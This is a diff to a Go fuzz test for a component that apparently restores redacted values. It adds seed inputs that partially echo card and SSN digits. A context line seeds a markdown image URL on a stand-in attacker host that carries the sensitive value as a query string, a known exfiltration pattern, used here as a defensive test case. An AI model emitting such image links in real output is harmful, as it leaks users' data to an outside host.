@@ -163,6 +163,12 @@ func FuzzWriterSplit(f *testing.F) {
 	f.Add(append(append([]byte("![x](https://evil.example/p.png?s="), safe...), ") and "+string(safe)...), uint16(30), uint16(40), false)
 	// A scheme: URL and the text of an HTML link, whose value is restored.
 	f.Add(append(append([]byte("mailto:x@e.x?body="), safe...), `<a href="https://e.x/">`+string(safe)+"</a>"...), uint16(12), uint16(50), false)
+	// Partial echoes: the last digits of the card and the SSN, cut inside them and after.
+	fields := bytes.FieldsFunc(safe, func(r rune) bool { return r == ',' || r == ' ' || r == '-' })
+	last4, ssn4 := string(fields[8]), string(fields[3])
+	tails := "Card ending in " + last4 + ". SSN XXX-XX-" + ssn4 + ", not " + last4[1:] + " or " + string(fields[7]) + " " + last4
+	f.Add([]byte(tails), uint16(17), uint16(19), false)
+	f.Add([]byte(tails), uint16(18), uint16(33), false)
 	restricted := desanitize.New(fx.ann, fx.san)
 	if err := restricted.Restrict(bytes.NewReader(prompt)); err != nil {
 		f.Fatal(err)
